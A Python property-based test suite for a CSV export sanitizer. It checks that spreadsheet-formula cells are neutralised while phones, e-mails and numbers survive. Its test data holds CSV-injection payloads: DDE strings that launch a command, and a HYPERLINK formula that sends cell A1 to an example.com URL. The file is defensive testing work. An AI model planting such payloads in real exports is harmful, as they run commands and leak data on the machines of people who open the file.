"""Files that no spreadsheet can be tricked by, and that keep numbers, phones and e-mail addresses as they are."""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from cltv_core.destinations.csv_files import harmless, harmless_texts, header, lines, to_csv, written

TRIGGERS = "=+-@＝＋－＠"
payloads = st.sampled_from(
    [
        '=cmd|"/C calc"!A0',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "＝1+1",
        '=HYPERLINK("https://example.com?"&A1,"click")',
        "=DDE(1)",
        "-",
        "@",
    ]
)
blanks = st.text(" \t\r\n\x00\x0b\xa0\u200b\ufeff;|,\"'", max_size=3)
anything = st.text(max_size=12) | st.tuples(blanks, payloads, blanks, payloads).map("".join) | payloads
phones = st.from_regex(r"\+[1-9]\d{0,2} [0-9]{2,4} [0-9]{3,4}( [0-9]{2,4})?", fullmatch=True)
emails = st.from_regex(r"[a-z0-9][a-z0-9._+-]{0,10}@[a-z]{1,8}\.(com|co\.uk)", fullmatch=True)


def cells(data: bytes, encoding: str = "utf-8") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(encoding), newline="")))


def is_evaluated(text: str) -> bool:
    """Whether a spreadsheet would compute something of the text, wherever it might split it."""
    parts = [text, *re.split(r"[;|\t\r\n]", text)]
    return any(begins_a_formula(part) for part in parts)


def begins_a_formula(text: str) -> bool:
    seen = text.lstrip(" \t\r\n\x0b\x0c\x00\xa0\u200b\ufeff")
    if not seen or seen[0] not in TRIGGERS:
        return False
    number = re.fullmatch(r"[+-]?[$£€]?\d[\d,.]*(e[+-]?\d+)?%?", seen.strip(), re.IGNORECASE)
    phone = re.fullmatch(r"\+[\d ().-]+", seen.strip()) and " " in seen.strip()
    return not (number or phone)


@given(st.lists(st.tuples(anything, anything), min_size=1, max_size=4))
def test_no_cell_survives_that_a_spreadsheet_would_evaluate(rows: list[tuple[str, str]]) -> None:
    frame = pd.DataFrame(rows, columns=["first_name", "=cmd"]).astype("str")
    names, *body = cells(to_csv(frame))
    assert names == ["first_name", "'=cmd"]
    assert len(body) == len(rows)
    for text in (cell for row in body for cell in row):
        assert not is_evaluated(text)
        assert text[:1] not in ("\t", "\r", "\n")


@given(anything)
def test_nothing_but_apostrophes_is_added(text: str) -> None:
    assert harmless(text).replace("'", "") == text.replace("\x00", "").replace("'", "")


@given(anything)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert harmless(harmless(text)) == harmless(text)


@given(st.lists(st.tuples(phones, emails, st.floats(-1e6, 1e6).map(lambda x: round(x, 2))), min_size=1, max_size=5))
def test_phones_addresses_and_numbers_come_back_unchanged(rows: list[tuple[str, str, float]]) -> None:
    frame = pd.DataFrame(rows, columns=["phone", "email", "change"])
    _, *body = cells(to_csv(frame))
    assert [(phone, email, float(change)) for phone, email, change in body] == rows


@pytest.mark.parametrize(
    "text", ["-12.50", "+3", "-1,234.56", "-1.234,56", "1e-5", "-$12.00", "-5 %", "-£3", "(33.62)"]
)
def test_numbers_in_text_stay(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize(
    "text", ["+44 20 7946 0000", "+1 (415) 555-0100", "+49 89 123456 ext 5", "+442079460000", "020 7946 0000"]
)
def test_phones_stay_in_every_column(text: str) -> None:
    assert harmless(text) == text


def test_a_phone_that_is_a_sum_stays_only_where_phones_are() -> None:
    assert harmless("+1-415-555-0100") == "'+1-415-555-0100"
    assert harmless("+1-415-555-0100", phone=True) == "+1-415-555-0100"


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("\t=1+1", "'\t'=1+1"),
        (" =1+1", "' =1+1"),
        ("＝1+1", "'＝1+1"),
        ("-2+3+cmd", "'-2+3+cmd"),
        ("x;=1+1", "x;'=1+1"),
        ("x\n@SUM(A1)", "x\n'@SUM(A1)"),
        ("\u200b=1", "'\u200b=1"),
        ("=\x001", "'=1"),
        ("\ttab", "'\ttab"),
        ("O'Neill - Sons", "O'Neill - Sons"),
        ("a=b", "a=b"),
        ("me@example.com", "me@example.com"),
        ("'=1", "'=1"),
    ],
)
def test_what_is_changed_and_what_is_not(text: str, safe: str) -> None:
    assert harmless(text) == safe


def test_ids_and_phones_are_untouched() -> None:
    frame = pd.DataFrame({"customer_id": ["00123"], "phone": ["+442079460000"], "postcode": ["01234"]})
    assert to_csv(frame) == b"customer_id,phone,postcode\r\n00123,+442079460000,01234\r\n"


def test_utf8_without_a_mark() -> None:
    assert to_csv(pd.DataFrame({"first_name": ["Zoë"]})) == "first_name\r\nZoë\r\n".encode()


@given(st.lists(st.tuples(anything, anything), max_size=4))
def test_lines_are_those_that_pandas_writes(rows: list[tuple[str, str]]) -> None:
    frame = pd.DataFrame(rows, columns=["name", 'a "b", c']).astype("str")
    assert "\r\n".join([header(frame), *lines(frame).to_pylist(), ""]) == written(frame)


def test_days_are_iso_and_gaps_are_empty() -> None:
    frame = pd.DataFrame({"day": pd.to_datetime(["2024-01-31", None]), "name": ["Ann", None], "value": [1.5, None]})
    assert to_csv(frame) == b"day,name,value\r\n2024-01-31,Ann,1.5\r\n,,\r\n"
    assert frame["name"].isna().sum() == 1


def test_categories_and_line_breaks() -> None:
    frame = pd.DataFrame({"note": pd.Categorical(["a\nb", '=x"', "a\rb"])})
    assert [row[0] for row in cells(to_csv(frame))[1:]] == ["a\nb", "'=x\"", "a\rb"]


@given(st.lists(st.text(max_size=12) | st.sampled_from(["=1+1", "a;=1", "\t-2", "Ann", "+44 20 7946 0000", "x|@y"])))
def test_the_glance_at_many_texts_misses_none_that_a_close_look_would_change(texts: list[str]) -> None:
    assert harmless_texts(pd.Index(texts, dtype="str")) == [harmless(text) for text in texts]
